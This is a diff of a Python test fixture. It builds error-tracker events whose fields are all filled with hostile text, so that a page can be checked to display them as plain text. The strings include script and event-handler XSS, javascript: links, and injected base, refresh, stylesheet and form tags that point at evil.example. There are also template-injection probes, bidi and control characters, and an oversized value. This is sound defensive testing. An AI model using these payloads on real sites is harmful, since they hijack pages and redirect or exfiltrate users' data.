@@ -1,78 +1,77 @@
-"""An event whose every field is an attack: what it must never do is to be anything but text."""
+"""Events whose every field is an attack: what a page shows of them must be text, and nothing else."""
 
 import time
 from typing import Any
 
-RTL = "\u202e\u2067gnp.exe\u200b\u200d\ufeff"
-CONTROL = "\x00\x07\x1b[31m\x7f\u0085\u2028"
 MARKUP = (
     "<script>window.owned='script';alert(1)</script>"
-    "<img src=x onerror=\"window.owned='onerror';alert(2)\">"
-    "<svg/onload=\"window.owned='onload'\"><a href=\"javascript:window.owned='href'\">click</a>"
-    "</title></textarea></style></template></pre></td></table></main></body>"
-    "<style>*{display:none!important}</style><base href='//evil.example/'>"
-    "<meta http-equiv=refresh content='0;url=//evil.example/'><form action=//evil.example/><input name=csrf>"
+    "<img src=x onerror=\"window.owned='onerror'\"><svg/onload=\"window.owned='onload'\">"
+    "<a href=\"javascript:window.owned='href'\">click</a>"
 )
-QUOTES = "\"'><b onmouseover=window.owned='quotes' x=\"'`"
-TEMPLATE = "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }} %(x)s {0} {n}"
-MARKDOWN = "[click](javascript:window.owned='markdown') ![x](http://evil.example/x.png) <!channel> <@U1> **bold**"
-LINKS = "javascript:window.owned='link'//http://evil.example/ data:text/html,<script>window.owned=1</script>"
+ENDS = "</title></textarea></style></template></pre></td></table></details></main></body><style>*{display:none}</style>"
+BASE = (
+    "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example/'>"
+    "<link rel=stylesheet href=//evil.example/x.css><form action=//evil.example/><input name=csrf>"
+)
+QUOTES = "\"'><b onmouseover=window.owned='quotes' onfocus=window.owned='focus' autofocus tabindex=1 x=\"'`"
+TEMPLATE = "{{7*7}} {% raw %} ${7*7} #{7*7} <%= 7*7 %> {{ config }} %(x)s {0} {n} %s {"
+MARKDOWN = "[click](javascript:window.owned='markdown') ![x](http://evil.example/x.png) <!channel> <@U1> **bold** `x`"
+LINK = "javascript:window.owned='link'//http://evil.example/"
+MARKS = (
+    "\u202e\u2067gnp.exe\u200b\u200d\ufeff \x00\x07\x1b[31m\x7f\u0085\u2028 \ud83d\ude08\u0e01\u0e47\u0e47\u0e47\u0e47"
+)
 LONG = "l" + "o" * 10_000 + "ng"
 
-TEXT = f"{MARKUP} {QUOTES} {TEMPLATE} {MARKDOWN} {LINKS} {RTL} {CONTROL}"
+TEXTS = {
+    "markup": MARKUP,
+    "ends": ENDS,
+    "base": BASE,
+    "quotes": QUOTES,
+    "template": TEMPLATE,
+    "markdown": MARKDOWN,
+    "link": LINK,
+    "marks": MARKS.encode("utf-16", "surrogatepass").decode("utf-16"),
+    "long": LONG,
+}
 
 
-def event(event_id: str, mark: str) -> dict[str, Any]:
-    """An event with hostile text in each field that a page may show; `mark` tells it from others."""
+def event(event_id: str, text: str) -> dict[str, Any]:
+    """An event with `text` in each field that a page may show."""
     frame = {
-        "filename": f"app/{MARKUP}.py",
-        "abs_path": LINKS,
-        "module": f"app.{QUOTES}",
-        "function": TEXT,
-        "lineno": 7,
-        "in_app": True,
-        "pre_context": [TEXT, LONG],
-        "context_line": MARKUP,
-        "post_context": [TEMPLATE, RTL],
-        "vars": {TEXT: TEXT, "plain": LONG, RTL: {"deep": [MARKUP, {"deeper": QUOTES}]}},
-    }
-    link = {
-        "type": f"Error{MARKUP}",
-        "module": QUOTES,
-        "value": f"{mark} {TEXT} {LONG}",
-        "stacktrace": {"frames": [frame] * 3},
-    }
-    root = {"type": LONG, "module": RTL, "value": LINKS, "mechanism": {"type": TEXT, "handled": False}}
+        "filename": text, "abs_path": text, "module": text, "function": text, "lineno": 7, "in_app": True,
+        "pre_context": [text, text], "context_line": text, "post_context": [text],
+        "vars": {text: text, "deep": {"deeper": [text, {text: text}]}},
+    }  # fmt: skip
+    theirs = {**frame, "in_app": False}
+    error = {
+        "type": text, "module": text, "value": text, "mechanism": {"type": text, "handled": False},
+        "stacktrace": {"frames": [frame, theirs]},
+    }  # fmt: skip
+    cause = {"type": text, "module": text, "value": text}
     crumb = {
-        "timestamp": time.time(), "type": MARKUP, "category": QUOTES, "level": "error", "message": TEXT,
-        "data": {TEXT: TEXT, "url": LINKS},
+        "timestamp": time.time(), "type": text, "category": text, "level": "error", "message": text,
+        "data": {text: text},
     }  # fmt: skip
     return {
         "event_id": event_id,
         "platform": "python",
         "timestamp": time.time(),
         "level": "error",
-        "exception": {"values": [root, link]},
-        "logentry": {"message": TEXT, "params": [QUOTES], "formatted": TEXT},
-        "logger": TEXT,
-        "transaction": TEXT,
-        "server_name": TEXT,
-        "release": f"{MARKUP[:120]}{mark}",
-        "environment": "<b>prod</b>'\"{{7*7}}"[:60],
-        "dist": QUOTES,
-        "tags": {"model": MARKUP[:190], "url": "javascript:window.owned='tag'", "q": QUOTES, "rtl": RTL, "t": TEMPLATE},
-        "extra": {TEXT: TEXT, "long": LONG},
-        "contexts": {MARKUP: {QUOTES: TEXT, "type": MARKUP}, "runtime": {"name": TEXT, "version": QUOTES}},
-        "user": {"id": TEXT, "email": MARKUP, "username": RTL, "ip_address": QUOTES},
-        "request": {
-            "url": LINKS,
-            "method": MARKUP,
-            "headers": {TEXT: TEXT},
-            "data": {TEXT: TEXT},
-            "query_string": TEXT,
-        },
-        "breadcrumbs": {"values": [crumb] * 5},
-        "fingerprint": [TEXT, mark],
-        "modules": {MARKUP: QUOTES},
-        "sdk": {"name": MARKUP, "version": QUOTES},
+        "exception": {"values": [cause, error]},
+        "logentry": {"message": text, "params": [text], "formatted": text},
+        "logger": text,
+        "transaction": text,
+        "server_name": text,
+        "release": text[:150],
+        "environment": text.replace("/", "")[:60],
+        "dist": text[:60],
+        "tags": {"model": text[:190], "provider": text[:190], text[:30]: text[:190], "url": text[:190]},
+        "extra": {text: text},
+        "contexts": {text: {text: text}, "runtime": {"name": text, "version": text}, "trace": {"op": text}},
+        "user": {"id": text, "email": text, "username": text, "ip_address": text},
+        "request": {"url": text, "method": text, "headers": {text: text}, "data": {text: text}, "query_string": text},
+        "breadcrumbs": {"values": [crumb, crumb]},
+        "fingerprint": [text],
+        "modules": {text: text},
+        "sdk": {"name": text, "version": text},
     }
